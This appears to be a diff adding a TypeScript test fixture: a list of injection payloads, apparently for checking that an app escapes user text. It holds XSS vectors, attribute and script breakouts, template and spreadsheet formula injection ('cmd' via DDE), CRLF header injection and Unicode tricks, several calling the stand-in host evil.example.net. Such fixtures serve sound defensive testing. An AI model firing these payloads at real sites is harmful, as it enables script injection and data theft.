@@ -1,0 +1,71 @@
+/**
+ * Texts that would be more than text wherever one of them is not taken as such: each sets `pwned`, makes an element
+ * with `data-pwned`, opens a dialog or calls evil.example.net. All of them are short enough for a name.
+ */
+// prettier-ignore
+export const PAYLOADS = [
+  // elements
+  '<script>pwned=1</script>',
+  '<ScRiPt/src=//evil.example.net/x.js data-pwned></ScRiPt>',
+  '<scr<script>ipt>pwned=1</scr</script>ipt>',
+  '<img src=x onerror=pwned=1 data-pwned>',
+  '<img src=//evil.example.net/a.png data-pwned>',
+  '<svg onload=pwned=1 data-pwned>',
+  '<svg><animate onbegin=pwned=1 attributeName=x data-pwned>',
+  '<svg><script href=data:,pwned=1 data-pwned />',
+  '<iframe srcdoc="<script>parent.pwned=1</script>" data-pwned></iframe>',
+  '<iframe src=javascript:parent.pwned=1 data-pwned>',
+  '<object data=data:text/html,x data-pwned></object>',
+  '<embed src=//evil.example.net/x data-pwned>',
+  '<video autoplay onloadstart=pwned=1 data-pwned><source src=x>',
+  '<details open ontoggle=pwned=1 data-pwned>',
+  '<input autofocus onfocus=pwned=1 data-pwned>',
+  '<body onload=pwned=1 data-pwned>',
+  '<dialog open onanimationstart=alert(1) data-pwned>x</dialog>',
+  '<form action=//evil.example.net data-pwned><button>Continue</button></form>',
+  '<base href=//evil.example.net/ data-pwned>',
+  '<meta http-equiv=refresh content="0;url=//evil.example.net" data-pwned>',
+  '<link rel=stylesheet href=//evil.example.net/a.css data-pwned>',
+  '<style>@import"//evil.example.net/b.css"</style><i data-pwned>',
+  '<a href=javascript:pwned=1 data-pwned>press</a>',
+  '<math><mtext><table><mglyph><style><img src onerror=pwned=1 data-pwned>',
+  '<template><i data-pwned></template><slot name=a data-pwned>',
+  '<x-pwned data-pwned contenteditable onblur=pwned=1>',
+  // out of an attribute, a tag, a comment, a script
+  '"><i data-pwned>',
+  "'><i data-pwned>",
+  '" onmouseover=pwned=1 autofocus onfocus=pwned=1 data-pwned="',
+  "' style='position:fixed;inset:0' onpointerover=pwned=1 data-pwned='",
+  '--><i data-pwned><!--',
+  ']]><i data-pwned>',
+  '</title></textarea></style><i data-pwned>',
+  '</script><script>pwned=1</script>',
+  '<noscript><p title="</noscript><img src=x onerror=pwned=1 data-pwned>">',
+  '"}</script><i data-pwned>{"a":"',
+  // addresses
+  'javascript:pwned=1//',
+  'JaVaScRiPt&colon;pwned=1//',
+  'data:text/html,<script>opener.pwned=1</script>',
+  '//evil.example.net/%0d%0aset-cookie:pwned=1',
+  // templates, markdown, spreadsheets
+  '{{constructor.constructor("pwned=1")()}}',
+  '${pwned=1}#{pwned=1}<%=pwned=1%>{%raw%}[[pwned=1]]',
+  '{{name}} {{count}} $t(shell.signOut) $1 $& %s',
+  '[press](javascript:pwned=1) ![x](//evil.example.net/m.png) <//evil.example.net>',
+  '=HYPERLINK("//evil.example.net","press")',
+  '@SUM(1)*cmd|" /C calc"!A0',
+  // styles
+  'red;background:url(//evil.example.net/s.png)',
+  '}*{background:url(//evil.example.net/t.png)}',
+  // what is not what it looks like
+  '\u202E<i data-pwned>\u202C \u2066txt\u2069',
+  '＜script＞pwned=1＜/script＞ ‹img›',
+  '&lt;i data-pwned&gt; &#60;i data-pwned&#62; &#x3c;i data-pwned&#x3e;',
+  '\\u003ci data-pwned\\u003e \\x3ci data-pwned\\x3e %3Ci data-pwned%3E',
+  '+ADw-script+AD4-pwned=1+ADw-/script+AD4-',
+  'İ<i data-pwned>ſ<ı K<\u200B\uFEFF/i>',
+  'Z̸̢͇̹͓͑a̵̛͚̪͂l̷̨̛̲͝g̴̱̈o̶͙͌ 👩‍👩‍👧‍👦 𝕏<i data-pwned>',
+  '__proto__',
+  'constructor',
+  'undefined',
+] as const
